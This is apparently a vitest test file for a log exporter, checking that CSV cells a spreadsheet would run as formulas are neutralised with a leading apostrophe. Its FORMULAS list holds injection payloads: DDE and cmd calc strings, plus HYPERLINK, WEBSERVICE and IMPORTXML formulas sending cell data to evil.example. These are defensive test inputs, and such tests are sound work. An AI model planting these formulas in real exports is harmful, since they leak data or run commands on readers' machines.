/** Lines of exported files: fields, and what spreadsheets make of texts. */
import { describe, expect, it } from 'vitest';
import { EXPORT_FIELDS } from '../resources/settings/schema.ts';
import { EXPORT_FIELD_IDS, exportColumns, exportHead, exportLine } from './log-export.ts';

const GIVEN = { origin: 'https://sluice.example', bodies: null };
const cell = (text: string) => exportLine('csv', ['trace_id'], { trace_id: text }, GIVEN).replace(/\r\n$/, '');

/** What a reader of CSV makes of a cell. */
const read = (written: string) => written.replace(/^"|"$/g, '').replaceAll('""', '"');

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const FORMULAS = STARTS.flatMap((start) => [
  start,
  `${start}1+1`,
  `${start}cmd|' /C calc'!A0`,
  `${start}HYPERLINK("https://evil.example/?"&A1,"open")`,
  `${start}${start}SUM(A1:A9)`,
  `${start}"quoted"`,
  `${start} 1`,
  `${start}\n=1`,
  `${start},=1+1`,
  `${start}";=1+1;"`,
  `${start}'`,
  `${start}\u200b1`,
  `${start}WEBSERVICE("https://evil.example")`,
  `${start}IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")`,
  `${start}DDE("cmd";"/C calc";"x")`,
  `${start}0`,
  `${start}é`,
]);

describe('a cell of CSV', () => {
  it('of a text that a spreadsheet would run begins with an apostrophe', () => {
    expect(FORMULAS.length).toBeGreaterThanOrEqual(200);
    for (const formula of FORMULAS) {
      expect(read(cell(formula))).toBe(`'${formula}`);
      expect(cell(formula)).toMatch(/^"'(?:[^"]|"")*"$/);
    }
  });

  it.each(['plain', '1 = 1', 'a"b', 'a,b', 'a\r\nb', '', "'quoted", '0'])('of %j is that text, quoted', (text) => {
    expect(cell(text)).toBe(`"${text.replaceAll('"', '""')}"`);
    expect(read(cell(text))).toBe(text);
  });

  it('of a number is that number, also a negative one, and of nothing is empty', () => {
    const line = exportLine('csv', ['cost', 'is_success', 'metadata'], { cost_micros: -12_345, status: 200 }, GIVEN);
    expect(line).toBe('-1.2345,true,\r\n');
  });

  it('of metadata is JSON, whatever its keys and values are', () => {
    const metadata = { '=1': '=2', '"': '",=3' };
    const line = exportLine('csv', ['metadata'], { metadata }, GIVEN);
    expect(JSON.parse(read(line.trimEnd()))).toEqual(metadata);
    expect(line).toMatch(/^"\{/);
  });
});

describe('fields of exports', () => {
  it('are those that may be denied, and the two that cannot', () => {
    expect(EXPORT_FIELD_IDS.filter((id) => !EXPORT_FIELDS.includes(id as never))).toEqual(['is_success', 'mode']);
    expect(EXPORT_FIELDS.filter((id) => !EXPORT_FIELD_IDS.includes(id))).toEqual([]);
  });

  it('read the columns that they need, and no others', () => {
    expect(exportColumns(['id', 'cost', 'cost_currency', 'is_success', 'response_status_code'])).toEqual([
      'id',
      'cost_micros',
      'status',
    ]);
  });

  it('have their bodies where those are kept', () => {
    const bodies = { request: { messages: [] }, response: null };
    const line = exportLine('jsonl', ['request', 'response'], {}, { ...GIVEN, bodies });
    expect(line).toBe('{"request":{"messages":[]},"response":null,"bodies_reason":null}\n');
    expect(exportHead('jsonl', ['request'], true)).toBe('');
  });
});
